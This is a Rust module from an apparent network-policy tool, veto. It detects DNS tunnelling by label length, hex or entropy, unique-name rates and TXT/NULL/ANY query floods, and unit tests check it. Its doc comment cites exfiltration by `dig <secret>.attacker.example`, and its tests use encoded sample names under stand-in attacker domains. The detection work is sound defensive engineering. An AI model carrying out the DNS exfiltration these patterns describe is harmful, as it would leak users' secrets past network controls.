//! The covert-channel guard of veto's DNS listener: lookups shaped like DNS
//! tunnelling, where the query names themselves carry data out (iodine,
//! dnscat2, exfiltration by `dig <secret>.attacker.example`).
//!
//! Flagged (policy `dns: { tunnel_guard: report | enforce | off }`, report
//! by default):
//! - a label of [`LONG_LABEL`] characters or more, or of [`DENSE_LEN`] or
//!   more that is hexadecimal or whose characters are as varied as encoded
//!   data (Shannon entropy of [`DENSE_BITS`] bits per character or more);
//! - more than [`UNIQUE_PER_MINUTE`] distinct names under one domain (its
//!   last two labels) from one machine in a minute;
//! - more than [`BULK_PER_MINUTE`] TXT, NULL or ANY lookups from one
//!   machine in a minute (the types that carry data back).
//!
//! The counts are kept per machine in fixed windows, bounded in memory; the
//! lock is held for a map operation only.

use crate::state::{Active, Shared};
use hickory_resolver::proto::rr::RecordType;
use std::collections::{HashMap, HashSet};
use std::sync::Mutex;
use std::time::{Duration, Instant};
use veto_policy::TunnelGuard;

pub const LONG_LABEL: usize = 40;
pub const DENSE_LEN: usize = 28;
pub const DENSE_BITS: f64 = 4.2;
pub const UNIQUE_PER_MINUTE: usize = 60;
pub const BULK_PER_MINUTE: u32 = 30;
const WINDOW: Duration = Duration::from_secs(60);
/// Machines × domains tracked at most; beyond, the oldest windows go.
const TRACKED: usize = 16_384;

/// What the guard found, and whether the policy enforces it.
pub struct Flag {
    pub enforced: bool,
    pub why: String,
}

#[derive(Default)]
pub struct Windows(Mutex<Counts>);

/// When a window began, and the names seen in it (their hashes).
type Seen = (Instant, HashSet<u64>);

/// Keyed by hashes, so a lookup allocates no key: (machine, domain) for
/// the names seen, the machine for the TXT/NULL/ANY count.
#[derive(Default)]
struct Counts {
    unique: HashMap<u64, Seen>,
    bulk: HashMap<u64, (Instant, u32)>,
}

/// Bits per character of `s`'s character distribution.
fn entropy(s: &str) -> f64 {
    let mut counts = [0u32; 256];
    for b in s.bytes() {
        counts[usize::from(b.to_ascii_lowercase())] += 1;
    }
    let n = s.len() as f64;
    counts
        .iter()
        .filter(|c| **c > 0)
        .map(|c| {
            let p = f64::from(*c) / n;
            -p * p.log2()
        })
        .sum()
}

/// The shape of one name alone.
fn shape(name: &str) -> Option<String> {
    for label in name.split('.') {
        if label.len() >= LONG_LABEL {
            return Some(format!(
                "a label of {} characters (DNS tunnels pack data into long labels)",
                label.len()
            ));
        }
        let hex = label.bytes().all(|b| b.is_ascii_hexdigit())
            && label.bytes().any(|b| b.is_ascii_digit())
            && label.bytes().any(|b| b.is_ascii_alphabetic());
        if label.len() >= DENSE_LEN && hex {
            return Some(format!(
                "a {}-character hexadecimal label (encoded data)",
                label.len()
            ));
        }
        if label.len() >= DENSE_LEN && entropy(label) >= DENSE_BITS {
            return Some(format!(
                "a {}-character label as varied as encoded data ({:.1} bits per character)",
                label.len(),
                entropy(label)
            ));
        }
    }
    None
}

/// A fixed-key hash of these strings (the same every call).
fn hash(parts: &[&str]) -> u64 {
    use std::hash::Hasher;
    let mut h = std::hash::DefaultHasher::new();
    for p in parts {
        h.write(p.as_bytes());
        h.write_u8(0);
    }
    h.finish()
}

impl Windows {
    fn counts(&self, machine: &str, name: &str, qtype: RecordType) -> Option<String> {
        // The domain: the name's last two labels.
        let domain = match name.rmatch_indices('.').nth(1) {
            Some((i, _)) => &name[i + 1..],
            None => name,
        };
        let now = Instant::now();
        let mut c = self.0.lock().unwrap_or_else(|p| p.into_inner());
        if c.unique.len() >= TRACKED {
            c.unique.retain(|_, (t, _)| now.duration_since(*t) < WINDOW);
            if c.unique.len() >= TRACKED {
                c.unique.clear();
            }
        }
        if c.bulk.len() >= TRACKED {
            c.bulk.clear();
        }
        if matches!(qtype, RecordType::TXT | RecordType::NULL | RecordType::ANY) {
            let e = c.bulk.entry(hash(&[machine])).or_insert((now, 0));
            if now.duration_since(e.0) >= WINDOW {
                *e = (now, 0);
            }
            e.1 += 1;
            if e.1 > BULK_PER_MINUTE {
                return Some(format!(
                    "{} TXT, NULL or ANY lookups from this machine within a minute (more than {BULK_PER_MINUTE})",
                    e.1
                ));
            }
        }
        let e = c
            .unique
            .entry(hash(&[machine, domain]))
            .or_insert_with(|| (now, HashSet::new()));
        if now.duration_since(e.0) >= WINDOW {
            *e = (now, HashSet::new());
        }
        // Past the limit the set stops growing: it only has to tell.
        if e.1.len() <= UNIQUE_PER_MINUTE {
            e.1.insert(hash(&[name]));
        }
        (e.1.len() > UNIQUE_PER_MINUTE).then(|| {
            format!(
                "more than {UNIQUE_PER_MINUTE} different names under `{domain}` from this machine within a minute"
            )
        })
    }
}

/// Checks one lookup; `None` when it looks like an ordinary one, or the
/// guard is off.
pub fn check(
    shared: &Shared,
    active: &Active,
    machine: &str,
    name: &str,
    qtype: RecordType,
) -> Option<Flag> {
    let mode = active.policy.document().dns.tunnel_guard;
    if mode == TunnelGuard::Off {
        return None;
    }
    let why = shape(name).or_else(|| shared.tunnel.counts(machine, name, qtype))?;
    Some(Flag {
        enforced: mode == TunnelGuard::Enforce,
        why: format!("the lookup of `{name}` looks like DNS tunnelling: {why}"),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_names_pass_and_encoded_ones_do_not() {
        for ok in [
            "api.example.com",
            "my-loadbalancer-1234567890.us-west-2.elb.amazonaws.com",
            "d1234abcd.cloudfront.net",
            "www.googleapis.com",
            "ec2-203-0-113-25.compute-1.amazonaws.com",
            "r4---sn-4g5e6nzz.googlevideo.com",
        ] {
            assert_eq!(shape(ok), None, "{ok}");
        }
        for bad in [
            "aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbHRyYXRlZCBkYXRh.evil.example",
            "mzxw6ytboi4tqojzgaytcmrtgq2tmnzyhe3dmnrw.t.example",
            "4f3a9c2b7e1d8a6f0b5c3e9d2a7f1c8b.x.example",
            "q9Zk2LmX7vB4nR8tW1yC6pD3sF5hJ0gK.example",
        ] {
            assert!(shape(bad).is_some(), "{bad}");
        }
    }

    #[test]
    fn many_names_under_one_domain_in_a_minute_are_flagged() {
        let w = Windows::default();
        for i in 0..UNIQUE_PER_MINUTE {
            let name = format!("n{i}.tunnel.example");
            assert_eq!(w.counts("m", &name, RecordType::A), None, "{name}");
        }
        assert!(
            w.counts("m", "last.tunnel.example", RecordType::A)
                .is_some()
        );
        // Another machine has its own window; repeats are not new names.
        assert_eq!(w.counts("other", "n0.tunnel.example", RecordType::A), None);
        let w = Windows::default();
        for _ in 0..200 {
            assert_eq!(w.counts("m", "www.example.com", RecordType::A), None);
        }
    }

    #[test]
    fn a_flood_of_txt_lookups_is_flagged() {
        let w = Windows::default();
        for i in 0..BULK_PER_MINUTE {
            assert_eq!(
                w.counts("m", &format!("t{i}.example.org"), RecordType::TXT),
                None
            );
        }
        assert!(w.counts("m", "x.example.org", RecordType::TXT).is_some());
    }
}
